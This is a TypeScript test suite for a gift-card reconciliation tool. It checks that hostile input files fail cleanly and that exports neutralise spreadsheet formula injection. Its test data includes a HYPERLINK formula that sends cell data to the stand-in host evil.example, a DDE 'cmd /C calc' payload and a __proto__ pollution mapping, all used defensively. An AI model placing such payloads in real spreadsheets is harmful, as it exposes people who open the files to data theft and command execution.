// The bad-input corpus (test/hostile/corpus.ts) through the import, the engine and the exports: every hostile
// file ends in a one-line InputError naming the file (and row and column where they apply) or in quarantined
// rows with reasons; never a crash, a hang or a lost row. docs/hostile-input.md lists the cases.
import { mkdtempSync, mkdirSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { runCase } from '../../shared/engine';
import { importFiles } from '../../shared/import/import-files';
import { inspectFile } from '../../shared/import/inspect';
import { LIMITS } from '../../shared/import/read-table';
import { MAX_INPUT_BYTES, loadSqlJs, readInput } from '../../shared/node/files';
import { csvAmount, csvField } from '../../shared/csv-out';
import { buildWorkpapers } from '../../shared/report/workpapers';
import { BusinessCalendar } from '../../shared/time';
import { DEFAULT_SETTINGS, InputError, type CaseSettings, type InputFile } from '../../shared/types';
import { CASES, ERP_HEADER, PLATFORM_HEADER, csv, erpRow, platformRow, type HostileCase } from '../hostile/corpus';

const calendar = new BusinessCalendar('America/Chicago');
const opts = { currency: 'USD', liabilityAccounts: ['2410', '2420'] };
const settings: CaseSettings = { ...DEFAULT_SETTINGS, periodStart: '2026-04-01', periodEnd: '2026-06-30', timezone: 'America/Chicago' };

function expectOneLine(err: unknown, file: string): InputError {
  expect(err).toBeInstanceOf(InputError);
  const e = err as InputError;
  expect(e.message).not.toMatch(/\n|\r/);
  expect(e.message).not.toMatch(/\bat .*\.(ts|js):\d+/);
  expect(e.message.startsWith(file)).toBe(true);
  expect(e.message.length).toBeLessThan(600);
  return e;
}

function caught(fn: () => unknown): unknown {
  try {
    fn();
  } catch (err) {
    return err;
  }
  throw new Error('expected an error');
}

async function caughtAsync(fn: () => Promise<unknown>): Promise<unknown> {
  try {
    await fn();
  } catch (err) {
    return err;
  }
  throw new Error('expected an error');
}

async function check(c: HostileCase): Promise<void> {
  const f = c.file();
  const x = c.expect;
  if (x.kind === 'error') {
    const e = expectOneLine(await caughtAsync(() => importFiles([f], undefined, calendar, opts)), f.name);
    expect(e.message).toMatch(x.message);
    expect(e.file).toBe(f.name);
    if (x.row !== undefined) expect(e.row).toBe(x.row);
    if (x.column !== undefined) expect(e.column).toBe(x.column);
    // The import screen's inspection never throws for bad data it can read; for unreadable files it throws the same line.
    try {
      inspectFile(f);
    } catch (err) {
      expectOneLine(err, f.name);
    }
    return;
  }
  const r = await importFiles([f], undefined, calendar, opts);
  const s = r.files[0].summary;
  expect(s.rows).toBe(x.rows);
  expect(s.rows).toBe(s.imported + s.quarantined); // no lost row
  expect(s.imported).toBe(x.imported);
  expect(s.quarantine.map((q) => [q.row, q.column])).toEqual(x.quarantine.map((q) => [q.row, q.column]));
  s.quarantine.forEach((q, i) => {
    expect(q.reason).toMatch(x.quarantine[i].reason);
    expect(q.reason).not.toMatch(/\n/);
    expect(q.reason.length).toBeLessThan(400);
  });
  if (x.encoding) expect(s.encoding).toBe(x.encoding);
}

describe('hostile files: import', () => {
  for (const c of CASES) it(c.name, () => check(c));

  it('UTF-16 and Windows-1252 text arrive intact', async () => {
    for (const name of ['UTF-16 LE with BOM', 'UTF-16 BE with BOM', 'Windows-1252 text']) {
      const c = CASES.find((k) => k.name === name)!;
      const r = await importFiles([c.file()], undefined, calendar, opts);
      expect(r.events[0].memo).toMatch(name.startsWith('UTF') ? /^café £5$/ : /^Remboursé £5$/);
      expect(r.files[0].headers[0]).toBe('Transaction ID');
    }
  });

  it('quoted newlines survive inside the field', async () => {
    const r = await importFiles([CASES.find((k) => k.name === 'quoted newlines inside a field')!.file()], undefined, calendar, opts);
    expect(r.events[0].memo).toBe('line one\r\nline two\nline "three"');
  });

  it('__proto__ and constructor names pollute no prototype', async () => {
    for (const name of ['__proto__ and constructor sheet and header names', '__proto__ header in CSV']) {
      const f = CASES.find((k) => k.name === name)!.file();
      try {
        await importFiles([f], undefined, calendar, opts);
        inspectFile(f, { platform: { __proto__: 'x', constructor: 'y' } as unknown as Record<string, string> });
      } catch (err) {
        expectOneLine(err, f.name);
      }
    }
    const mapping = JSON.parse('{"__proto__": {"polluted": "yes"}, "erp": {"__proto__": "Journal", "constructor": "Line"}}');
    inspectFile(CASES.find((k) => k.name === '__proto__ and constructor sheet and header names')!.file(), mapping);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted')).toBe(false);
    expect(typeof ({} as Record<string, unknown>).constructor).toBe('function');
  });

  it('xlsx over the cell limit is refused before SheetJS parses it', async () => {
    const saved = LIMITS.maxXlsxCells;
    LIMITS.maxXlsxCells = 50;
    try {
      const rows = [ERP_HEADER, ...Array.from({ length: 10 }, (_, i) => erpRow(i + 1))];
      const f: InputFile = { role: 'erp', name: 'erp.xlsx', bytes: xlsxOf(rows) };
      const e = expectOneLine(await caughtAsync(() => importFiles([f], undefined, calendar, opts)), 'erp.xlsx');
      expect(e.message).toMatch(/^erp\.xlsx: the workbook has \d+ cells, over the limit of 50$/);
    } finally {
      LIMITS.maxXlsxCells = saved;
    }
  });
});

function xlsxOf(rows: string[][]): Uint8Array {
  const wb = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(rows), 'Sheet1');
  return new Uint8Array(XLSX.write(wb, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer);
}

describe('hostile paths: readInput', () => {
  const dir = mkdtempSync(join(tmpdir(), 'bf-hostile-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('a path that is a folder', () => {
    const p = join(dir, 'platform.csv');
    mkdirSync(p);
    const e = expectOneLine(caught(() => readInput('platform', p)), p);
    expect(e.message).toBe(`${p}: is a folder, not a file`);
  });

  it('a path that does not exist', () => {
    const p = join(dir, 'nope.csv');
    const e = expectOneLine(caught(() => readInput('platform', p)), p);
    expect(e.message).toBe(`${p}: no such file`);
  });

  it('a 1 GB file is refused by size before it is read', () => {
    const p = join(dir, 'huge.csv');
    writeFileSync(p, '');
    truncateSync(p, 1024 * 1024 * 1024 + 1); // sparse: no disk used
    const e = expectOneLine(caught(() => readInput('platform', p)), p);
    expect(e.message).toMatch(/: 1\.0 GiB is over the limit of 500 MiB per file$/);
    truncateSync(p, MAX_INPUT_BYTES + 1);
    expectOneLine(caught(() => readInput('platform', p)), p);
  });

  it('reads the file again each time its bytes are taken, and refuses one changed or removed in between', () => {
    const p = join(dir, 'changing.csv');
    writeFileSync(p, 'a,b\n1,2\n');
    const f = readInput('platform', p);
    expect(f.size).toBe(8);
    expect(new TextDecoder().decode(f.bytes)).toBe('a,b\n1,2\n');
    expect(new TextDecoder().decode(f.bytes)).toBe('a,b\n1,2\n'); // the same bytes again: fine
    writeFileSync(p, 'a,b\n1,3\n'); // same size, other bytes
    let e = expectOneLine(caught(() => f.bytes), p);
    expect(e.message).toBe(`${p}: the file changed on disk during the run; run it again`);
    rmSync(p);
    e = expectOneLine(caught(() => f.bytes), p);
    expect(e.message).toBe(`${p}: could not be read (ENOENT)`);
  });

  it('a text file just under the size limit passes readInput but never reaches a string too long for the engine', () => {
    expect(MAX_INPUT_BYTES).toBeLessThanOrEqual(LIMITS.maxTextBytes);
    expect(LIMITS.maxTextBytes).toBeLessThan(2 ** 29 - 24); // V8's longest string
  });
});

// A small whole case: four files, with hostile text where it reaches the exports.
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1', '-1+1', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+2', '\r=1+2'];

function smallCase(opts: { bigNote?: boolean } = {}): InputFile[] {
  const enc = (t: string) => new TextEncoder().encode(t);
  const platform = [
    PLATFORM_HEADER,
    platformRow(1, { Amount: '50.00', 'Balance After': '50.00', 'Order Ref': '#1001' }),
    // Manual adjustments by a person: MANUAL_OVERRIDE, whose explanation quotes the Note.
    ...HOSTILE.map((note, i) => platformRow(10 + i, { Type: 'Adjustment', Amount: '5.00', 'Balance After': '5.00', Operator: 'csr:mallory', Channel: 'csr', Note: note })),
    platformRow(30, { Type: 'Adjustment', Amount: '5.00', 'Balance After': '5.00', Operator: 'csr:mallory', Channel: 'csr', Note: opts.bigNote ? 'N'.repeat(1024 * 1024) : 'small' }),
    platformRow(31, { Timestamp: '2026-04-02T14:00:00' + '0'.repeat(1024 * 1024) }),
  ];
  const storefront = [
    ['Order', 'Transaction ID', 'Created At', 'Event', 'Card Last Four', 'Amount', 'Currency', 'Status', 'Location'],
    ['#1001', '5550001', '2026-04-02 09:00:00 -0500', 'gift_card_sold', '0001', '50.00', 'USD', 'success', 'online'],
  ];
  const payments = [
    ['id', 'Type', 'Created (UTC)', 'Amount', 'Fee', 'Net', 'Currency', 'Description', 'Order ID', 'Status'],
    ['txn_1', 'charge', '2026-04-02 14:00:00', '50.00', '1.00', '49.00', 'usd', 'Gift card purchase #1001', '#1001', 'available'],
  ];
  const erp = [
    ERP_HEADER,
    erpRow(1, { Account: '2410 Gift Card Liability', Credit: '50.00', Reference: 'GT-0000001', Memo: 'GC activation' }),
    erpRow(1, { Line: '2', Account: '1010 Cash Clearing', Debit: '50.00', Credit: '' }),
    // Plug journals with hostile ids and memos: ERP_ONLY_ENTRY, whose records name the journal.
    ...HOSTILE.map((h, i) => erpRow(0, { Journal: h, Line: String(i + 1), Account: '2410 Gift Card Liability', Credit: `${i + 1}.00`, Memo: h })),
  ];
  return [
    { role: 'platform', name: 'platform.csv', bytes: enc(csv(platform)) },
    { role: 'storefront', name: 'storefront.csv', bytes: enc(csv(storefront)) },
    { role: 'payments', name: 'payments.csv', bytes: enc(csv(payments)) },
    { role: 'erp', name: 'erp.xlsx', bytes: xlsxOf(erp) },
  ];
}

function cellsOf(xlsx: Uint8Array): { sheet: string; addr: string; cell: XLSX.CellObject }[] {
  const wb = XLSX.read(xlsx, { type: 'array', cellFormula: true });
  const out: { sheet: string; addr: string; cell: XLSX.CellObject }[] = [];
  for (const name of wb.SheetNames) {
    const ws = wb.Sheets[name];
    for (const addr of Object.keys(ws)) if (!addr.startsWith('!')) out.push({ sheet: name, addr, cell: ws[addr] as XLSX.CellObject });
  }
  return out;
}

describe('hostile text in the exports', () => {
  it('no formula escapes: memos, notes, journal ids and order refs stay text in workpapers.xlsx and the CSVs', async () => {
    const SQL = await loadSqlJs();
    const c = await runCase(SQL, { files: smallCase(), settings });
    for (const i of c.report.inputs) expect(i.rows).toBe(i.imported + i.quarantined);
    const cells = cellsOf(c.workpapers());
    for (const { cell } of cells) expect(cell.f).toBeUndefined();
    const texts = cells.filter((x) => x.cell.t === 's').map((x) => String(x.cell.v));
    // Every hostile note, memo and journal id reaches the workbook as a string cell with its text intact (trimmed on import).
    for (const h of HOSTILE) {
      expect(texts.some((t) => t.includes(`("${h.trim()}")`))).toBe(true); // the platform Note, in a MANUAL_OVERRIDE explanation
      expect(texts).toContain(`erp:${h.trim()}:${HOSTILE.indexOf(h) + 1}`); // the ERP journal id, in the records column
    }
    const journal = c.journalEntriesCsv();
    const corrections = c.platformCorrectionsCsv();
    for (const text of [journal, corrections]) {
      for (const field of parseCsv(text).flat()) {
        // A plain signed decimal is a number, never a formula: it is written as it is.
        if (/^-?\d+(\.\d+)?$/.test(field)) continue;
        expect(field).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    // The hostile journal ids reach journal_entries.csv as references, each behind an apostrophe.
    expect(journal).toContain(`'=HYPERLINK(""http://evil.example/?x=""&A1,""click""):1`);
    for (const h of HOSTILE) expect(csvField(h).replace(/^"/, '').startsWith(`'`)).toBe(true);
    // An amount is a number cell, written as it is; text that looks like one is text, neutralised.
    expect(csvField(csvAmount(-245))).toBe('-2.45');
    expect(csvField('-2.45')).toBe(`"'-2.45"`);
    expect(csvField('-2.45+A1')).toBe(`"'-2.45+A1"`);
  });

  it('no formula escapes: hostile text at the start of workbook cells stays a string cell, unchanged', async () => {
    const SQL = await loadSqlJs();
    const c = await runCase(SQL, { files: smallCase(), settings });
    const report = structuredClone(c.report);
    const x = report.exceptions[0];
    report.exceptions = HOSTILE.map((h, i) => ({ ...x, id: h, order: h, explanation: h, suggested_resolution: h, last_four: h, key: `k${i}` }));
    report.inputs[0].quarantine = HOSTILE.map((h, i) => ({ row: i + 2, column: 'Note', reason: h }));
    report.notes = [...HOSTILE];
    const cells = cellsOf(buildWorkpapers(report, c.auditLog(), [{ key: 'k0', action: 'accept', note: HOSTILE[0], user: HOSTILE[1], at: '2026-07-01T00:00:00Z' }], []));
    for (const { cell } of cells) expect(cell.f).toBeUndefined();
    for (const h of HOSTILE) {
      const hits = cells.filter(({ cell }) => cell.v === h);
      expect(hits.length).toBeGreaterThan(3);
      for (const { cell } of hits) expect(cell.t).toBe('s');
    }
  });

  it('a 1 MB field: the workbook keeps every cell within 32,767 characters and the Quarantine sheet has the row', async () => {
    const SQL = await loadSqlJs();
    const c = await runCase(SQL, { files: smallCase({ bigNote: true }), settings });
    const p = c.report.inputs.find((i) => i.system === 'platform')!;
    expect(p.rows).toBe(p.imported + p.quarantined);
    expect(p.quarantine.some((q) => q.column === 'Timestamp' && q.reason.length < 200)).toBe(true);
    const wb = XLSX.read(c.workpapers(), { type: 'array' });
    const cells = cellsOf(c.workpapers());
    for (const { cell } of cells) if (typeof cell.v === 'string') expect(cell.v.length).toBeLessThanOrEqual(32_767);
    const q = XLSX.utils.sheet_to_json<Record<string, unknown>>(wb.Sheets['Quarantine']);
    expect(q.some((r) => r.File === 'platform.csv' && /Timestamp/.test(String(r.Reason)))).toBe(true);
    expect(cells.some(({ cell }) => typeof cell.v === 'string' && /truncated from 10\d{5} characters/.test(cell.v))).toBe(true);
  });

  it('a source file changed on disk during a run: the final export refuses it in one line and makes no case file', async () => {
    const SQL = await loadSqlJs();
    const dir = mkdtempSync(join(tmpdir(), 'bf-changed-'));
    try {
      const files = smallCase().map((f) => {
        writeFileSync(join(dir, f.name), f.bytes);
        return readInput(f.role, join(dir, f.name));
      });
      const c = await runCase(SQL, { files, settings });
      expect(c.report.inputs.every((i) => i.rows > 0)).toBe(true);
      const platform = join(dir, files.find((f) => f.role === 'platform')!.name);
      writeFileSync(platform, `${readFileSync(platform, 'utf8')}\n`);
      const e = expectOneLine(caught(() => c.exportCaseAndClose()), platform);
      expect(e.message).toBe(`${platform}: the file changed on disk during the run; run it again`);
      expect(() => c.query('SELECT 1')).toThrow(/closed/i); // and the case is closed, its memory freed
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('a reversed period is refused in one line', async () => {
    const SQL = await loadSqlJs();
    const e = (await caughtAsync(() => runCase(SQL, { files: smallCase(), settings: { ...settings, periodStart: '2026-06-30', periodEnd: '2026-04-01' } }))) as InputError;
    expect(e).toBeInstanceOf(InputError);
    expect(e.message).toBe('Period 2026-06-30..2026-04-01 is reversed: it ends before it starts');
  });

  it('an unknown time zone is refused in one line', async () => {
    const SQL = await loadSqlJs();
    const e = (await caughtAsync(() => runCase(SQL, { files: smallCase(), settings: { ...settings, timezone: 'Mars/Olympus_Mons' } }))) as InputError;
    expect(e).toBeInstanceOf(InputError);
    expect(e.message).toBe("Unknown time zone 'Mars/Olympus_Mons' (use an IANA name such as America/New_York)");
  });
});

function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  return rows;
}
